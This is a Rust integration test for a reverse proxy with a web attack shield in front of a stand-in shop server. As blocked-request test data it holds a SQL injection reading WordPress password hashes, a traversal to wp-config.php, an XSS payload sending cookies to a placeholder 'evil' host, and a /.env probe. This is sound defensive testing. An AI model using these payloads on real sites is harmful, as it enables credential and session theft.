//! `storefort proxy` (the real binary) in front of another web server on
//! loopback: what passes arrives intact, with X-Forwarded-For set; what
//! the shield refuses never reaches the upstream.

use axum::body::Bytes;
use axum::http::{HeaderMap, Method, Uri};
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tokio::process::{Child, Command};

#[derive(Debug, Clone)]
struct Seen {
    method: String,
    uri: String,
    forwarded_for: String,
    host: String,
    has_hop_header: bool,
    body: Vec<u8>,
}

/// A stand-in for another store: records every request and answers with a
/// large body and headers of its own.
async fn upstream() -> (String, Arc<Mutex<Vec<Seen>>>) {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = seen.clone();
    let app = axum::Router::new().fallback(move |method: Method, uri: Uri, headers: HeaderMap, body: Bytes| {
        let log = log.clone();
        async move {
            let header = |n: &str| headers.get(n).and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
            log.lock().expect("lock").push(Seen {
                method: method.to_string(),
                uri: uri.to_string(),
                forwarded_for: header("x-forwarded-for"),
                host: header("host"),
                has_hop_header: headers.contains_key("x-hop"),
                body: body.to_vec(),
            });
            let page = "<p>shop</p>".repeat(100_000);
            ([("x-upstream", "woo"), ("set-cookie", "woocommerce_session=abc; HttpOnly")], page)
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let addr = listener.local_addr().expect("addr");
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    (format!("http://{addr}"), seen)
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0").expect("bind").local_addr().expect("addr").port()
}

async fn start_proxy(upstream: &str) -> (Child, String, tempfile::TempDir) {
    let port = free_port();
    // An empty working directory: no ./storefort.toml to pick up.
    let dir = tempfile::tempdir().expect("dir");
    let child = Command::new(env!("CARGO_BIN_EXE_storefort"))
        .args(["proxy", "--listen", &format!("127.0.0.1:{port}"), "--upstream", upstream])
        .current_dir(dir.path())
        .env_remove("STOREFORT_CONFIG")
        .env("STOREFORT_SHIELD__LIMITS__SIGN_IN__PER_MINUTE", "2")
        .env("STOREFORT_SHIELD__LIMITS__SIGN_IN__BURST", "2")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .expect("start storefort proxy");
    let base = format!("http://127.0.0.1:{port}");
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        if tokio::net::TcpStream::connect(("127.0.0.1", port)).await.is_ok() {
            return (child, base, dir);
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("storefort proxy did not start");
}

#[tokio::test]
async fn the_proxy_forwards_clean_requests_intact_and_keeps_attacks_from_the_upstream() {
    let (upstream_url, seen) = upstream().await;
    let (_proxy, base, _dir) = start_proxy(&upstream_url).await;
    let client = reqwest::Client::new();

    // A shopper's page view: streamed back whole, upstream headers kept.
    let r = client
        .get(format!("{base}/shop/?orderby=price&paged=2"))
        .header("x-forwarded-for", "6.6.6.6")
        .header("connection", "x-hop")
        .header("x-hop", "1")
        .send()
        .await
        .expect("send");
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["x-upstream"], "woo");
    assert!(r.headers()["set-cookie"].to_str().expect("ascii").starts_with("woocommerce_session="));
    assert!(r.headers().contains_key("x-request-id"));
    let body = r.bytes().await.expect("body");
    assert_eq!(body.len(), "<p>shop</p>".len() * 100_000);
    {
        let seen = seen.lock().expect("lock");
        let first = &seen[0];
        assert_eq!((first.method.as_str(), first.uri.as_str()), ("GET", "/shop/?orderby=price&paged=2"));
        assert_eq!(first.forwarded_for, "127.0.0.1", "a client's own X-Forwarded-For is not passed on as ours");
        assert!(first.host.starts_with("127.0.0.1:"), "the Host the client asked for is kept");
        assert!(!first.has_hop_header, "hop-by-hop headers stay on their hop");
    }

    // A form post arrives byte for byte.
    let form = "billing_first_name=Ada&billing_city=K%C3%B6ln&order_comments=Leave+it+by+the+door%2C+please";
    let r = client
        .post(format!("{base}/?wc-ajax=update_order_review"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form)
        .send()
        .await
        .expect("send");
    assert_eq!(r.status(), 200);
    assert_eq!(seen.lock().expect("lock").last().expect("seen").body, form.as_bytes());

    // Attacks are answered by the proxy and never reach the store.
    let before = seen.lock().expect("lock").len();
    for (path, body) in [
        ("/?s=%27%20UNION%20SELECT%20user_pass%20FROM%20wp_users--", ""),
        ("/wp-content/plugins/x/download.php?file=../../../../wp-config.php", ""),
        (
            "/product/lamp/",
            "comment=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil%2F%27%2Bdocument.cookie%3C%2Fscript%3E",
        ),
        ("/.env", ""),
    ] {
        let r = client
            .post(format!("{base}{path}"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body)
            .send()
            .await
            .expect("send");
        assert_eq!(r.status(), 403, "{path}");
        assert!(r.text().await.expect("text").contains("Request id:"));
    }
    assert_eq!(seen.lock().expect("lock").len(), before, "no attack reached the upstream");

    // Sign-in attempts on the upstream's login page are rate limited.
    let statuses: Vec<u16> = {
        let mut s = Vec::new();
        for _ in 0..3 {
            let r = client
                .post(format!("{base}/wp-login.php"))
                .header("content-type", "application/x-www-form-urlencoded")
                .body("log=admin&pwd=hunter2")
                .send()
                .await
                .expect("send");
            s.push(r.status().as_u16());
        }
        s
    };
    assert_eq!(statuses, [200, 200, 429]);
}

#[tokio::test]
async fn an_unreachable_upstream_is_a_502_not_a_hang() {
    let dead = format!("http://127.0.0.1:{}", free_port());
    let (_proxy, base, _dir) = start_proxy(&dead).await;
    let r = reqwest::get(format!("{base}/")).await.expect("send");
    assert_eq!(r.status(), 502);
}
